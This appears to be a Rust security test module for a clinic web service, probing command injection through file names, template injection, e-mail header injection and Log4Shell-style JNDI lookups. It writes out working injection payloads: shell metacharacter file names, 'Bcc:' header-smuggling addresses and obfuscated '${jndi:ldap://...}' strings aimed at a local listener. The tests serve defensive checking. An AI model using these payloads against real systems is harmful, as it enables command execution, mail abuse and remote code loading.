//! `input-command-template`: what people write is data, whatever it looks like.

use super::walk;
use crate::{attacks::prelude::*, matrix::has_clinic};
use tokio::net::TcpListener;

pub(super) const ATTACKS: &[Attack] = &[
    attack!(
        INPUT_COMMAND_TEMPLATE / "command" = command,
        needs: Clinic,
        "The receptionist adds a file called `report;name.pdf`, and its name comes back letter by letter.",
        "She adds others whose names are commands to a shell, and looks for what they would have done.",
    ),
    attack!(
        INPUT_COMMAND_TEMPLATE / "template" = template,
        "The clinic is called after a formula of every template language, and so is a patient.",
        "The administrator invites somebody, and reads the mail that goes out.",
    ),
    attack!(
        INPUT_COMMAND_TEMPLATE / "smtp" = smtp,
        "Strangers and an administrator put line ends and further addresses into e-mail addresses, wherever one is asked for.",
        "The clinic is called after a whole header section: what goes out has one recipient, and no line of its own making.",
    ),
    attack!(
        INPUT_COMMAND_TEMPLATE / "log4" = log4,
        "Somebody listens, and puts look-ups that lead to him into header fields, parameters, paths and bodies: everywhere.",
        "Nobody comes.",
    ),
];

async fn command(scene: &Scene) -> Outcome {
    let patient = scene.patient().await?;
    let reception = scene.actor(RecepA)?;
    let honest = NewFile::pdf("a letter").named("report;name.pdf");
    let control = Control::checked(|| async {
        let answer =
            reception.adds(&honest, &patient).send_patiently().await.map_err(|error| error.to_string())?;
        match answer.string("/name") {
            Some(name) if answer.status == 201 && name == honest.name => Ok(()),
            _ => Err(answer.summary()),
        }
    });
    let mut trial = Trial::begin(scene, control).await?;
    let mark = format!("mark-{}", Uuid::new_v4().simple());
    let clinician = scene.actor(ClinA1)?;
    for name in [
        format!("x;touch {mark}-1;.pdf"),
        format!("$(touch {mark}-2).pdf"),
        format!("`touch {mark}-3`.pdf"),
        format!("x|touch {mark}-4;.pdf"),
        format!("x&&touch {mark}-5;.pdf"),
        format!("x\"; touch {mark}-6; \".pdf"),
        format!("x'; touch {mark}-7; '.pdf"),
    ] {
        let file = NewFile::pdf("a letter").named(&name);
        let (id, _) = trial.honestly(scene.judged(ClinA1, &file, &patient)).await?;
        trial
            .check(&name, clinician.get(&format!("/v1/documents/{id}")), |answer| {
                Finding::must(answer.string("/name").as_deref() == Some(&name), "the name is another")
            })
            .await;
    }
    for name in [format!("x\ntouch {mark}.pdf"), format!("-rf {mark}.pdf")] {
        let request = clinician.adds(&NewFile::pdf("a letter").named(&name), &patient);
        let refusal = Refusal::problem(422, "file-name-invalid");
        trial.refused(&format!("{name:?}"), request, refusal).await;
    }
    // Where a command would have been run: the service's folders, and the folder it was started in.
    let home = scene.data_directory().parent().unwrap_or(scene.data_directory());
    let mut places = walk(home);
    for entry in std::fs::read_dir(".")? {
        places.push(entry?.path());
    }
    let made: Vec<_> = places.iter().filter(|path| path.to_string_lossy().contains(&mark)).collect();
    trial.found("what the commands would have made", Finding::must(made.is_empty(), format!("{made:?}")));
    trial.conclude().await
}

/// A formula in every language, beside its result.
const FORMULAS: [&str; 4] = ["{{7919*7927}}", "${7919*7927}", "<%= 7919*7927 %>", "#{7919*7927}"];
const RESULT: &str = "62773913";

async fn template(scene: &Scene) -> Outcome {
    let name = format!("Clinic {}", FORMULAS.join(" "));
    let rename =
        format!("UPDATE organizations SET name = '{name}' WHERE id = {}", scene.observer().id(scene.a()));
    scene.observer().execute(&rename).await?;

    let admin = scene.actor(AdminA1)?;
    let invitations = format!("{}/invitations", admin.organization_path());
    let mut trial = Trial::begin(scene, Control::new(admin.get("/v1/me"), 200)).await?;
    let address = format!("{}@clinic.test", Uuid::new_v4().simple());
    let invite = admin.post(&invitations).json(&json!({ "email": address, "role": "reception" }));
    trial.honestly(scene.demand(&invite, 201)).await?;
    let mails = scene.outbox().wait_for(&address, "You are invited", 1).await?;
    let text: String = mails.iter().map(|mail| unfolded(&mail.text)).collect();
    let arrived = if mails.is_empty() { Finding::Unclear("no mail came".into()) } else { Finding::Fine };
    trial.found("the mail", arrived.and(Finding::must(!text.contains(RESULT), "the formula was worked out")));
    let literal = FORMULAS.iter().all(|formula| text.contains(formula));
    trial.found(
        "the mail",
        Finding::must(literal || mails.is_empty(), "the name is not there letter by letter"),
    );

    for formula in FORMULAS.into_iter().filter(|_| has_clinic()) {
        let patient = NewPatient { family_name: formula.into(), ..NewPatient::unique() };
        let request = scene.actor(RecepA)?.post("/v1/patients").json(&patient.body());
        let answer = trial.honestly(async { request.send_patiently().await }).await?;
        let same = answer.string("/family_name").is_none_or(|name| name == formula);
        trial.found(formula, Finding::must(same && !answer.mentions(RESULT), "it was worked out"));
    }
    trial.conclude().await
}

/// The text without the line ends that quoted-printable puts in (RFC 2045 §6.7).
fn unfolded(text: &str) -> String {
    text.replace("=\r\n", "").replace("=3D", "=")
}

/// Addresses that a mail program would take for more than one, or for more than an address.
const MORE_THAN_ONE: [&str; 10] = [
    "a@clinic.test\r\nBcc: evil@clinic.test",
    "a@clinic.test%0d%0aBcc: x",
    "a@clinic.test\nSubject: x",
    "a@clinic.test\r\n\r\nA text of one's own.",
    "a@clinic.test, evil@clinic.test",
    "a@clinic.test;evil@clinic.test",
    "a@clinic.test> RCPT TO:<evil@clinic.test",
    "\"a\\\r\n b\"@clinic.test",
    "Robin <a@clinic.test>",
    "a@clinic.test\u{2028}Bcc: evil@clinic.test",
];
/// Where strangers enter an address.
const FORMS: [&str; 3] = ["/password/forgot", "/signup", "/signin"];
/// What such a mail would be delivered to.
const EVIL: &str = "evil@clinic.test";

async fn smtp(scene: &Scene) -> Outcome {
    let admin = scene.actor(AdminA1)?;
    let mark = format!("mark-{}", Uuid::new_v4().simple());
    let name = format!("Clinic\r\nBcc: {EVIL}\r\nX-Mark: {mark}\r\n\r\n{mark} is the text.");
    let rename =
        format!("UPDATE organizations SET name = '{name}' WHERE id = {}", scene.observer().id(scene.a()));
    scene.observer().execute(&rename).await?;
    let own = format!("id = {}", scene.observer().id(scene.a()));
    scene
        .observer()
        .execute(&format!("UPDATE organizations SET self_registration = true WHERE {own}"))
        .await?;
    let invitations = format!("{}/invitations", admin.organization_path());
    let mut trial = Trial::begin(scene, Control::new(admin.get("/v1/me"), 200)).await?;
    for email in MORE_THAN_ONE {
        let request = admin.post(&invitations).json(&json!({ "email": email, "role": "reception" }));
        trial
            .check(email, request, |answer| match answer.status {
                422 => Finding::Fine,
                200..300 => Finding::Breach(answer.summary()),
                _ => Finding::Unclear(answer.summary()),
            })
            .await;
        for form in FORMS {
            let browser = scene.browser();
            let (csrf, a) = (browser.form_of(form).await?, scene.a().to_string());
            let fields = [("csrf", csrf.as_str()), ("email", email), ("organization", &a), ("password", "x")];
            let judge = |answer: &Answer| match answer.status {
                400 | 401 | 422 => Finding::Fine,
                // As for every address that has no account.
                202 if form == "/password/forgot" => Finding::Fine,
                _ => Finding::Unclear(answer.summary()),
            };
            trial.check(&format!("{form}: {email}"), browser.post(form, &fields), judge).await;
        }
    }
    let address = format!("{}@clinic.test", Uuid::new_v4().simple());
    let body = json!({ "email": address, "role": "reception", "display_name": "Robin" });
    trial.honestly(scene.demand(&admin.post(&invitations).json(&body), 201)).await?;
    let mails = scene.outbox().wait_for(&address, "You are invited", 1).await?;
    let [mail] = mails.as_slice() else {
        return Err(AttackError::Setup(format!("{} mails came instead of one", mails.len())));
    };
    let (head, text) = (mail.head.to_lowercase(), unfolded(&mail.text));
    let recipients =
        head.lines().filter(|line| ["to:", "cc:", "bcc:"].iter().any(|name| line.starts_with(name)));
    trial.found("the recipients", Finding::must(recipients.count() == 1, "there is more than one"));
    let told = head.contains(&mark) || head.contains(EVIL);
    trial.found("the header section", Finding::must(!told, "it holds what the clinic is called"));
    let own_line = text.lines().any(|line| {
        ["bcc:", "x-mark:", &mark].iter().any(|begin| line.trim_start().to_lowercase().starts_with(begin))
    });
    trial.found("the text", Finding::must(!own_line, "a name begins a line of its own"));
    let named = text.contains(&mark);
    trial.found("the text", if named { Finding::Fine } else { Finding::Unclear("it names nobody".into()) });
    let strays = scene.outbox().mails_to(EVIL)?.len();
    trial.found("mails to others", Finding::must(strays == 0, format!("{strays} came")));
    trial.conclude().await
}

/// Fields that logs and traces are made of.
const LOGGED: [&str; 14] = [
    "user-agent",
    "referer",
    "x-api-version",
    "x-request-id",
    "x-forwarded-for",
    "forwarded",
    "cookie",
    "accept-language",
    "origin",
    "from",
    "traceparent",
    "x-correlation-id",
    "idempotency-key",
    "authorization",
];

async fn log4(scene: &Scene) -> Outcome {
    let catcher = TcpListener::bind("127.0.0.1:0").await?;
    let lookup = format!("${{jndi:ldap://{}/x}}", catcher.local_addr()?);
    let hidden = lookup.replace("jndi", "${lower:j}ndi");
    let admin = scene.actor(AdminA1)?;
    let mut trial = Trial::begin(scene, Control::new(admin.get("/v1/me"), 200)).await?;
    let handled = |answer: &Answer| {
        if answer.status < 500 { Finding::Fine } else { Finding::Unclear(answer.summary()) }
    };
    for text in [&lookup, &hidden] {
        for field in LOGGED {
            let request = admin.get("/v1/me").without(field).header(field, text);
            trial.check(field, request, handled).await;
            let unknown = scene.anyone().get("/nothing/here").header(field, text).from(scene.fresh_address());
            trial.check(&format!("{field}, where nothing is"), unknown, handled).await;
        }
        let escaped: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for target in [format!("/v1/{escaped}"), format!("/v1/me?q={escaped}"), format!("/v1/me?{escaped}=1")]
        {
            trial.check(&target, admin.get(&target), handled).await;
        }
        let body = json!({ "issuer": text, "subject": text, "display_name": text, "role": text });
        trial.check("a body", admin.post(&admin.members_path()).json(&body), handled).await;
        let browser = scene.browser();
        let csrf = browser.form_of("/signin").await?;
        let form = browser.post("/signin", &[("csrf", &csrf), ("email", text), ("password", text)]);
        trial.check("a form", form, handled).await;
    }
    let caught = tokio::time::timeout(Duration::from_millis(300), catcher.accept()).await.is_ok();
    trial.found("the look-ups", Finding::must(!caught, "the service went to look"));
    trial.conclude().await
}
